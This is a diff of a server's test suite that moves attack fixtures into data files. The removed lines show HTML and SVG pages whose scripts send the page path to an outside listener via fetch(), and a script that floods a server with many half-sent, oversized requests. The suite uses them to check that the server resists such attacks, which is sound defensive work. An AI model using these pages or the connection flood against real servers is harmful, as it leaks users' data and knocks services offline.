@@ -526,14 +526,8 @@ def test_cookies_are_for_the_path_of_the_server_which_it_tells_nobody(triton, se
         assert said.startswith("HTTP/1.1 404 ") and path.strip("/") not in said, said
 
 
-OF_SOMEBODY = {
-    "page.html": """<title>a page</title><p>words</p><img src="{there}" referrerpolicy="unsafe-url"><a href="{there}" referrerpolicy="unsafe-url">a link</a>
-                    <script>document.title = "it runs"; fetch("{there}" + location.pathname, {{mode: "no-cors"}})</script>""",
-    "picture.svg": """<svg xmlns="http://www.w3.org/2000/svg" width="30" height="30"><title>a page</title><rect width="30" height="30"/>
-                      <script>document.title = "it runs"; fetch("{there}" + location.pathname, {{mode: "no-cors"}})</script></svg>""",
-    "page.ipynb": """{{"cells": [{{"cell_type": "markdown", "metadata": {{}}, "source": "<script>document.title = 'it runs'</script>"}}], "metadata": {{}}, "nbformat": 4,
-                      "nbformat_minor": 4}}""",
-}
+# What somebody puts into a folder that others open: each tells port 9 of the reader's computer.
+OF_SOMEBODY = sorted((DATA / "of_somebody").iterdir())
 
 
 @needs_chromium
@@ -554,8 +548,8 @@ def test_a_file_in_a_tab_runs_no_script_and_tells_nobody_the_path(triton, server
         "import numpy, matplotlib.image as image; image.imsave('dot.png', "
         "numpy.zeros((30, 40))); image.imsave('dot.pdf', numpy.zeros((30, 40)))",
     )
-    for name, text in OF_SOMEBODY.items():
-        triton.write("login", f"~/{name}", text.format(there=there), server.user)
+    for path in OF_SOMEBODY:
+        triton.write("login", f"~/{path.name}", path.read_text(encoding="utf-8"), server.user)
     triton.run("login", shlex.join([f"{CENTRAL}/bin/python", "-c", picture]), server.user)
     let_in(triton, server.user, ["laptop"])
     base, _, token = server.said["forward_url"].partition("lab?")
@@ -663,22 +657,7 @@ def test_who_is_unknown_sends_little_and_who_is_known_much(triton, user):
 
 # Opens so many connections, says nothing on half of them, and the rest of a request on none. Holds
 # them until its input ends.
-MANY_CONNECTIONS = """
-import resource, socket, sys
-resource.setrlimit(resource.RLIMIT_NOFILE, [resource.getrlimit(resource.RLIMIT_NOFILE)[1]] * 2)
-host, port, path, many = sys.argv[1:]
-cookies = "; ".join(f"{number}={'x' * 230}" for number in range(170))
-lines = []
-for says in (b"", f"POST {path}login HTTP/1.1\\r\\nHost: {host}\\r\\nCookie: {cookies}\\r\\nContent-Length: 16000\\r\\n\\r\\n".encode() + b"x" * 15_000):
-    for _ in range(int(many)):
-        lines.append(socket.create_connection((host, int(port)), timeout=20))
-        try:
-            lines[-1].sendall(says)
-        except OSError:     # it hangs up
-            continue
-print("open", flush=True)
-sys.stdin.read()
-"""
+MANY_CONNECTIONS = (DATA / "many_connections.py").read_text(encoding="utf-8")
 
 
 @pytest.mark.claims(
